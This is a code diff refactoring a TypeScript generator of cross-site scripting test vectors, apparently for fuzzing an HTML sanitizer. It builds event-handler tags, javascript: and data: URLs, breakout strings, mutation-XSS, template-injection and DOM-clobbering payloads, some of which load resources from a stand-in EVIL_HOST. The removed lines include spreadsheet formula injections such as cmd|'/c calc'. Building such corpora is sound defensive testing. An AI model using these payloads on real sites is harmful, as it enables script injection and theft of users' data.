@@ -8,167 +8,102 @@ type Make = (n: number) => string;
 const cross = <A, B>(as: readonly A[], bs: readonly B[], make: (a: A, b: B, n: number) => string): Make[] =>
   as.flatMap((a) => bs.map((b) => (n: number) => make(a, b, n)));
 
-const entity = (text: string, style: 'decimal' | 'hex' | 'padded'): string =>
-  [...text]
-    .map((c) => c.codePointAt(0) ?? 0)
-    .map((point) =>
-      style === 'decimal' ? `&#${point};` : style === 'hex' ? `&#x${point.toString(16)};` : `&#${String(point).padStart(7, '0')}`,
-    )
-    .join('');
+const entities = (text: string): string => [...text].map((c) => `&#x${(c.codePointAt(0) ?? 0).toString(16)};`).join('');
 const mixed = (text: string): string => [...text].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join('');
 
 /** Elements, with what they need beside the handler to fire it by themselves. */
-const ELEMENTS = [
-  ...['img src=x', 'image src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'video><source src=x', 'details open', 'input autofocus'],
-  // biome-ignore format: a list
-  ...[
-    'select autofocus', 'textarea autofocus', 'button autofocus', 'a href=# autofocus tabindex=1', 'marquee', 'iframe',
-    'iframe src=about:blank',
-  ],
-  // biome-ignore format: a list
-  ...[
-    'object data=x', 'embed src=x', 'style', 'link rel=stylesheet href=x', 'script src=x', 'svg><animate attributeName=x dur=1s',
-    'svg><set attributeName=x',
-  ],
-  // biome-ignore format: a list
-  ...[
-    'svg><image href=x', 'svg><use href=x', 'math', 'p contenteditable autofocus', 'div tabindex=1 autofocus', 'table background=x',
-    'td', 'h1', 'span', 'custom-element',
-  ],
-  ...['input type=image src=x', 'picture><img src=x', 'dialog open', 'meter', 'keygen autofocus', 'isindex', 'frameset', 'bgsound src=x'],
-];
-const HANDLERS = [
-  ...['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onbegin', 'onpageshow', 'onanimationstart', 'onpointerover', 'onmouseover'],
-  ...['onclick', 'onbeforetoggle', 'onscrollend', 'oncontentvisibilityautostatechange'],
-];
-const SEPARATORS = [' ', '/', '\t', '\n', '\f', ' / ', '\r\n'];
-const VALUES: ((n: number) => string)[] = [
+const ELEMENTS =
+  'img src=x,image src=x,svg,body,video src=x,video><source src=x,details open,input autofocus,a href=# autofocus tabindex=1,marquee,iframe src=about:blank,object data=x,embed src=x,style,link rel=stylesheet href=x,script src=x,svg><animate attributeName=x dur=1s,svg><image href=x,svg><use href=x,math,p contenteditable autofocus,table background=x,custom-element,input type=image src=x,dialog open,frameset'.split(
+    ',',
+  );
+const HANDLERS =
+  'onerror onload onfocus ontoggle onbegin onpageshow onanimationstart onpointerover onclick onbeforetoggle oncontentvisibilityautostatechange'.split(
+    ' ',
+  );
+const SEPARATORS = [' ', '/', '\t', '\n', '\f', '\r\n'];
+const VALUES: Make[] = [
   (n) => code(n),
   (n) => `"${code(n)}"`,
-  (n) => `'${code(n)}'`,
   (n) => `\`${code(n)}\``,
-  (n) => entity(code(n), 'decimal'),
-  (n) => entity(code(n), 'hex'),
-  (n) => entity(code(n), 'padded'),
+  (n) => entities(code(n)),
   (n) => `"__ran&lpar;${n}&rpar;"`,
-  (n) => `eval('\\x5f\\x5fran(${n})')`,
-  (n) => `"window['__'+'ran'](${n})"`,
   (n) => `"setTimeout\`__ran(${n})\`"`,
-  (n) => `"import('data:text/javascript,__ran(${n})')"`,
 ];
-
-function handlers(): Make[] {
-  const all = ELEMENTS.flatMap((element) => HANDLERS.map((handler) => ({ element, handler })));
-  return all.flatMap(({ element, handler }, i): Make[] => {
-    const separator = SEPARATORS[i % SEPARATORS.length] ?? ' ';
-    const [one, two] = [VALUES[i % VALUES.length], VALUES[(i * 5 + 3) % VALUES.length]];
-    const spelled = i % 3 === 0 ? mixed(handler) : handler;
-    return [
-      (n) => `<${element}${separator}${handler}=${one?.(n)}>`,
-      (n) => `<${i % 2 ? mixed(element) : element} ${spelled} = ${two?.(n)} x`,
-      (n) => `${BREAKOUTS[i % BREAKOUTS.length]}<${element} ${handler}=${two?.(n)}>`,
-    ];
-  });
-}
+const handlers = ELEMENTS.flatMap((element, e) =>
+  cross(HANDLERS, VALUES, (handler, value, n) => {
+    const tag = `${n % 2 ? mixed(element) : element}${SEPARATORS[n % SEPARATORS.length]}${n % 3 ? handler : mixed(handler)}=${value(n)}`;
+    return `${n % 5 ? '' : BREAKOUTS[(n + e) % BREAKOUTS.length]}<${tag}${n % 7 ? '>' : ' x'}`;
+  }),
+);
 
 const SCHEMES: Make[] = [
   (n) => `javascript:${code(n)}`,
   (n) => `${mixed('javascript')}:${code(n)}`,
   (n) => `java\tscript:${code(n)}`,
-  (n) => `java\nscript:${code(n)}`,
-  (n) => ` javascript:${code(n)}`,
   (n) => `\u0001javascript:${code(n)}`,
-  (n) => entity(`javascript:${code(n)}`, 'hex'),
+  (n) => entities(`javascript:${code(n)}`),
   (n) => `java&Tab;script&colon;${code(n)}`,
-  (n) => `javascript://%0a${code(n)}`,
-  (n) => `vbscript:${code(n)}`,
   (n) => `data:text/html,<script>parent.${code(n)}</script>`,
-  (n) => `data:text/html;base64,${btoa(`<script>parent.${code(n)}</script>`)}`,
   (n) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${code(n)}'/>`,
   (n) => `//${EVIL_HOST}/${n}`,
   (n) => `http://${EVIL_HOST}/${n}`,
   (n) => `\\\\${EVIL_HOST}\\${n}`,
-  (n) => `https:${EVIL_HOST}/${n}`,
-  (n) => `feed:javascript:${code(n)}`,
 ];
-const URL_PLACES: ((url: string) => string)[] = [
-  (u) => `<a href="${u}">x</a>`,
-  (u) => `<a href="${u}" ping="${u}" target=_blank autofocus>x</a>`,
-  (u) => `<iframe src="${u}"></iframe>`,
-  (u) => `<iframe srcdoc="<a href='${u}'>x</a>"></iframe>`,
-  (u) => `<object data="${u}"></object>`,
-  (u) => `<embed src="${u}">`,
-  (u) => `<form action="${u}"><input type=submit autofocus></form>`,
-  (u) => `<button formaction="${u}" form=x>x</button>`,
-  (u) => `<base href="${u}">`,
-  (u) => `<meta http-equiv=refresh content="0;url=${u}">`,
-  (u) => `<svg><a xlink:href="${u}"><text y=20>x</text></a></svg>`,
-  (u) => `<svg><a><animate attributeName=href values="${u}"/><text y=20>x</text></a></svg>`,
-  (u) => `<svg><use href="${u}"/></svg>`,
-  (u) => `<svg><image href="${u}"/></svg>`,
-  (u) => `<math href="${u}">x</math>`,
-  (u) => `<img src="${u}">`,
-  (u) => `<img srcset="${u} 1x" loading=eager>`,
-  (u) => `<link rel=stylesheet href="${u}">`,
-  (u) => `<link rel=preload as=image href="${u}">`,
-  (u) => `<script src="${u}"></script>`,
-  (u) => `<video poster="${u}" src="${u}"></video>`,
-  (u) => `<table background="${u}"><tr><td background="${u}">x</table>`,
-  (u) => `<p style="background:url('${u}')">x</p>`,
-  (u) => `<style>@import '${u}';p{background:url(${u})}</style>`,
-  (u) => `<img src='${u}`,
-  (u) => `<area href="${u}"><map name=x><area href="${u}"></map>`,
-  (u) => `[x](${u})`,
-  (u) => u,
+/** Where an address stands in markup, as URL. */
+const URL_PLACES = [
+  '<a href="URL" ping="URL" target=_blank autofocus>x</a>',
+  '<iframe src="URL"></iframe>',
+  `<iframe srcdoc="<a href='URL'>x</a>"></iframe>`,
+  '<object data="URL"></object>',
+  '<form action="URL"><input type=submit autofocus></form>',
+  '<button formaction="URL" form=x>x</button>',
+  '<base href="URL">',
+  '<meta http-equiv=refresh content="0;url=URL">',
+  '<svg><a xlink:href="URL"><text y=20>x</text></a></svg>',
+  '<svg><a><animate attributeName=href values="URL"/><text y=20>x</text></a></svg>',
+  '<svg><use href="URL"/></svg>',
+  '<math href="URL">x</math>',
+  '<img src="URL">',
+  '<img srcset="URL 1x" loading=eager>',
+  '<link rel=stylesheet href="URL">',
+  '<script src="URL"></script>',
+  '<video poster="URL" src="URL"></video>',
+  '<table background="URL"><tr><td background="URL">x</table>',
+  `<p style="background:url('URL')">x</p>`,
+  "<style>@import 'URL';p{background:url(URL)}</style>",
+  "<img src='URL",
+  '[x](URL)',
+  'URL',
 ];
-const urls = cross(URL_PLACES, SCHEMES, (place, scheme, n) => place(scheme(n)));
+const at = (place: string, url: string): string => place.replaceAll('URL', () => url);
+const urls = cross(URL_PLACES, SCHEMES, (place, scheme, n) => at(place, scheme(n)));
 
 const CORES: Make[] = [
   (n) => `<script>${code(n)}</script>`,
   (n) => `<img src=x onerror=${code(n)}>`,
   (n) => `<svg onload=${code(n)}>`,
-  (n) => `<svg><script>${code(n)}</script></svg>`,
   (n) => `<svg><script href="data:text/javascript,${code(n)}"/>`,
   (n) => `<iframe srcdoc="<script>parent.${code(n)}</script>">`,
   (n) => `<details open ontoggle=${code(n)}>`,
-  (n) => `<input onfocus=${code(n)} autofocus>`,
   (n) => `<img src=//${EVIL_HOST}/${n}>`,
   (n) => `<style>@import'//${EVIL_HOST}/${n}'</style>`,
 ];
+const coreOf = (i: number, n: number): string => CORES[i % CORES.length]?.(n) ?? '';
+
+/** What ends the place that a text stands in. */
 const BREAKOUTS = [
-  // biome-ignore format: a list
-  ...[
-    '"', "'", '">', "'>", '`>', '</p>', '</div>', '</td></tr></table>', '</textarea>', '</title>', '</style>', '</script>', '-->',
-    '--!>', ']]>',
-  ],
-  // biome-ignore format: a list
-  ...[
-    '</noscript>', '</xmp>', '</template>', '</svg>', '</math>', '</select>', '</option>', '</iframe>', '</noembed>', '</plaintext>',
-    '</span></li>',
-  ],
-  // biome-ignore format: a list
-  ...[
-    '<!--', '<!-->', '<!--->', '<![CDATA[', '<?xml version="1.0"?>', '<!DOCTYPE html [<!ENTITY x "y">]>', '*/', '\\";', "\\';", '";',
-    "';", '${', '{{', '\\u003c/script\\u003e',
-  ],
-  // biome-ignore format: a list
-  ...[
-    '<a title="', "<p title='", '<p id="</p>', '&quot;&gt;', '&lt;/p&gt;', '\ufeff', '\u202e', '\u200b', '<\u0000', '<scr<script>ipt>',
-    '<<', '< ', '</ ', '<%', '<?', '<!',
-  ],
+  ...`" ' "> '> \`> </p> </td></tr></table> </textarea> </title> </style> </script> --> ]]> </noscript> </template> </svg>`.split(' '),
+  ...'</math> </select> </iframe> </plaintext> <!-- <!--> <![CDATA[ <? */ "; {{ &quot;&gt; &lt;/p&gt; << <% <! <scr<script>ipt>'.split(' '),
+  ...['<a title="', "<p title='", '\ufeff', '\u202e', '<\u0000', '< ', '</ ', '\\u003c/script\\u003e'],
 ];
 const breakouts = cross(BREAKOUTS, CORES, (before, core, n) => `${before}${core(n)}`);
+const broken = cross(BREAKOUTS, URL_PLACES, (before, place, n) => before + at(place, SCHEMES[n % SCHEMES.length]?.(n) ?? ''));
 
-// biome-ignore format: a list
-const FOREIGN = [
-  'svg', 'math', 'svg><foreignObject', 'svg><desc', 'svg><title', 'math><mtext', 'math><mi', 'math><annotation-xml encoding="text/html"',
-  'math><mtext><table><mglyph',
-];
-// biome-ignore format: a list
-const RAW_TEXT = [
-  'style', 'script', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'textarea', 'title', 'template', 'plaintext', 'select',
-  'option', 'table', 'form', 'p', 'h1', 'li',
-];
+const FOREIGN =
+  'svg,math,svg><foreignObject,svg><desc,svg><title,math><mtext,math><annotation-xml encoding="text/html",math><mtext><table><mglyph'.split(
+    ',',
+  );
+const RAW_TEXT = 'style script xmp iframe noembed noscript textarea title template plaintext select table form p'.split(' ');
 const HIDDEN: ((core: string, raw: string) => string)[] = [
   (core, raw) => `<${raw}><!--</${raw}>${core}-->`,
   (core, raw) => `<${raw}><a title="</${raw}>${core}">`,
@@ -178,79 +113,41 @@ const HIDDEN: ((core: string, raw: string) => string)[] = [
 ];
 /** Markup that means one thing to the cleaner and another when the browser reads it again. */
 const mutations = FOREIGN.flatMap((outer, i) =>
-  cross(RAW_TEXT, HIDDEN, (raw, hide, n) => `<${outer}>${hide(CORES[(i + n) % CORES.length]?.(n) ?? '', raw)}`),
+  [0, 3, 5].flatMap((shift) => cross(RAW_TEXT, HIDDEN, (raw, hide, n) => `<${outer}>${hide(coreOf(i + shift, n), raw)}`)),
 );
 /** Deep nesting, which parsers cut off at different depths. */
-const nested = cross(
-  ['div', 'b', 'table><tr><td', 'svg><g', 'math><mi', 'ul><li', 'font', 'a', 'button'],
-  [3, 60, 520],
-  (tag, depth, n) => `${`<${tag}>`.repeat(depth)}${CORES[n % CORES.length]?.(n)}`,
-);
+const nested = cross(['div', 'table><tr><td', 'svg><g', 'math><mi', 'a'], [3, 60, 520], (tag, depth, n) => {
+  return `${`<${tag}>`.repeat(depth)}${coreOf(n, n)}`;
+});
 
 const ENCODINGS: ((text: string) => string)[] = [
   (t) => t.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
   (t) => t.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
-  (t) => t.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
   (t) => t.replaceAll('<', '&#x3c').replaceAll('>', '&#x3e'),
   (t) => encodeURIComponent(t),
-  (t) => encodeURIComponent(encodeURIComponent(t)),
   (t) => t.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
-  (t) => t.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
   (t) => t.replaceAll('<', '＜').replaceAll('>', '＞'),
-  (t) => t.replaceAll('<', '‹').replaceAll('>', '›'),
   (t) => t.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
   (t) => t.replaceAll('s', 'ſ').replaceAll('k', 'K'),
   (t) => t.replaceAll('<', '<\u200b'),
-  (t) => t.replaceAll('<', '%3C').replaceAll('>', '%3E'),
-  (t) => [...t].join('\u00ad'),
-  (t) =>
-    mixed(t)
-      .replaceAll('__RAN', '__ran')
-      .replaceAll(/__[rR][aA][nN]/g, '__ran'),
   (t) => t.toUpperCase().replaceAll('__RAN', '__ran'),
-  (t) => `\u001b[31m${t}`,
 ];
 const encoded = cross(CORES, ENCODINGS, (core, encode, n) => encode(core(n)));
 
 const TEMPLATES: Make[] = [
   (n) => `{{constructor.constructor('${code(n)}')()}}`,
-  (n) => `{{$on.constructor('${code(n)}')()}}`,
   (n) => `\${${code(n)}}`,
-  (n) => `#{${code(n)}}`,
   (n) => `<%= ${code(n)} %>`,
-  (n) => `[[${code(n)}]]`,
   (n) => `<p v-html="'<img src=x onerror=${code(n)}>'">`,
-  (n) => `<p x-init="${code(n)}">`,
-  (n) => `<p ng-init="constructor.constructor('${code(n)}')()">`,
-  (n) => `__proto__[innerHTML]=<img src=x onerror=${code(n)}>`,
   (n) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${code(n)}>"}}`,
-  (n) => `{"type":"img","props":{"src":"x","onError":"${code(n)}"}}`,
 ];
 /** Names by which a page's own objects could be hidden behind elements. */
-// biome-ignore format: a list
-const CLOBBERING = [
-  '__proto__', 'document', 'cookie', 'getElementById', 'attributes', 'nodeName', 'parentNode', 'childNodes', 'innerHTML', 'root',
-  'content', 'boot', 'location', 'body',
-];
-const clobbering = CLOBBERING.flatMap((name): Make[] => [
+const CLOBBERED = '__proto__ document cookie getElementById attributes nodeName parentNode innerHTML root boot location body'.split(' ');
+const clobbering = CLOBBERED.flatMap((name): Make[] => [
   (n) => `<form id=${name}><input name=${name}><img name=${name} src=x onerror=${code(n)}></form>`,
   (n) => `<a id=${name}></a><a id=${name} name=x href="javascript:${code(n)}">x</a>`,
-  (n) => `<img id=${name} name=${name} src=//${EVIL_HOST}/${n}>`,
-]);
-
-const FORMULAS = ['=', '+', '-', '@', '|', '%', '\t=', '\r=', ' =', '\u00a0=', '\n+', '"=', "'=", ';=', '\ufeff=', '＝', '＋', '－', '＠'];
-const formulas = FORMULAS.flatMap((start): Make[] => [
-  (n) => `${start}HYPERLINK("http://${EVIL_HOST}/${n}";"x")`,
-  (n) => `${start}cmd|'/c calc'!A${n}`,
-  (n) => `x";${start}IMPORTXML("http://${EVIL_HOST}/${n}")`,
-  (n) => `x\r\n${start}1+${n}`,
 ]);
 
 /** All of them, each with its own number in it; the same every time. */
-export function xssVectors(): string[] {
-  const makes = [
-    ...[...handlers(), ...urls, ...breakouts, ...mutations, ...nested, ...encoded, ...TEMPLATES, ...clobbering, ...formulas],
-    ...cross(BREAKOUTS, URL_PLACES.slice(0, 26), (before, place, n) => before + place(SCHEMES[n % SCHEMES.length]?.(n) ?? '')),
-  ];
-  return makes.map((make, n) => make(n));
-}
+export const xssVectors = (): string[] =>
+  [handlers, urls, breakouts, broken, mutations, nested, encoded, TEMPLATES, clobbering].flat().map((make, n) => make(n));
